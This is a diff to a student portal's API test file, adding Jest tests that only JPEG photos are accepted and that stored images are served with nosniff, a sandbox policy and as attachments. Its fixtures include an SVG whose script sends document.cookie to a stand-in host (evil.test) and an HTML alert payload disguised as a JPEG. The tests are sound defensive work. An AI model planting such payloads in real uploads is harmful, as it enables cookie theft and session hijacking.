@@ -1,12 +1,22 @@
 /** Black-box tests of the signed-in student's writes: profile update (validated), photo upload,
  * support and email cases, tasks and the directory password; and CORS for writes. */
-import { apiGet, apiSend, corsPreflight, setUpSignedIn } from './testing/dev-api-process';
-import { readData } from './disk-store';
+import { apiGet, apiSend, corsPreflight, setUpSignedIn, startDevApi } from './testing/dev-api-process';
+import { dirname, join } from 'node:path';
+import { DiskStore, readData } from './disk-store';
 import type { StudentProfile } from '@portal/mock-api';
 
 jest.setTimeout(30000);
 
 const ICHM = 'http://ichm.localhost:3000';
+const documentsDir = join(dirname(require.resolve('@portal/mock-api/package.json')), 'src/seed/documents');
+
+/** Keeps `bytes` as the student's photo, recorded as image/svg+xml, as an older server did (stopped meanwhile). */
+async function keepImage(bytes: Buffer): Promise<void> {
+  const { store } = DiskStore.open(server.dataDir, { documentsDir });
+  const blob = `image-${student.studentUPId}`;
+  await store.writeBlob(blob, bytes);
+  store.put('images', student.studentUPId, { contentType: 'image/svg+xml', size: bytes.length, blob });
+}
 const server = setUpSignedIn();
 const send = server.send;
 let student: StudentProfile;
@@ -118,6 +128,70 @@ test('a photo over the upload limit (32Mb) is refused with 413 and the old one k
   expect([status, body]).toEqual([413, { message: 'The image is larger than 32Mb' }]);
   const image = await apiGet(server.api.baseUrl, 'v1/secure/student/image', server.token);
   expect(image.headers.get('content-type')).toBe('image/jpeg');
+});
+
+describe('the photo is a JPEG, served as an inert image', () => {
+  const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0, 1, 0xff, 0xd9]);
+  const SVG = Buffer.from(
+    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.test/?" + document.cookie)</script></svg>',
+  );
+  const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]);
+  const put = (bytes: Buffer, contentType: string) =>
+    send<{ message: string }>('PUT', 'v1/secure/student/image', new Uint8Array(bytes), {
+      'Content-Type': contentType,
+    });
+  const image = () => apiGet(server.api.baseUrl, 'v1/secure/student/image', server.token);
+
+  test('anything but a JPEG (by its bytes, whatever the header says) is 415, and the photo kept', async () => {
+    expect((await put(JPEG, 'application/octet-stream'))[0]).toBe(200);
+    for (const [bytes, declared] of [
+      [SVG, 'image/svg+xml'],
+      [SVG, 'image/jpeg'],
+      [SVG, 'application/octet-stream'],
+      [PNG, 'image/png'],
+      [Buffer.from('GIF89a not a photo'), 'image/gif'],
+      [Buffer.from('<html><script>alert(1)</script></html>'), 'image/jpeg'],
+      [Buffer.from([0xff, 0xd8]), 'image/jpeg'],
+    ] as const) {
+      const [status, body] = await put(bytes, declared);
+      expect([declared, status, body]).toEqual([declared, 415, { message: 'The image must be a JPEG' }]);
+    }
+    const kept = await image();
+    expect(kept.headers.get('content-type')).toBe('image/jpeg');
+    expect(Buffer.from(await kept.arrayBuffer())).toEqual(JPEG);
+  });
+
+  test('the photo is served with nosniff, a sandbox policy and as an attachment', async () => {
+    expect((await put(JPEG, 'application/octet-stream'))[0]).toBe(200);
+    const res = await image();
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('image/jpeg');
+    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(res.headers.get('content-security-policy')).toMatch(/(^|;\s*)sandbox(;|$)/);
+    expect(res.headers.get('content-security-policy')).toContain("default-src 'none'");
+    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="photo\.jpg"/);
+  });
+
+  test('an image stored earlier that is not a photo type is never served as active content', async () => {
+    // As an older server kept it: an SVG with a script, recorded as image/svg+xml.
+    await server.api.stop();
+    await keepImage(SVG);
+    server.api = await startDevApi(server.dataDir);
+    const res = await image();
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('application/octet-stream');
+    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(res.headers.get('content-security-policy')).toMatch(/(^|;\s*)sandbox(;|$)/);
+    expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
+
+    // A PNG kept earlier is served as the PNG it is (its bytes say so, not its record).
+    await server.api.stop();
+    await keepImage(PNG);
+    server.api = await startDevApi(server.dataDir);
+    const png = await image();
+    expect(png.headers.get('content-type')).toBe('image/png');
+    expect(png.headers.get('content-disposition')).toMatch(/^attachment; filename="photo\.png"/);
+  });
 });
 
 describe('cases', () => {
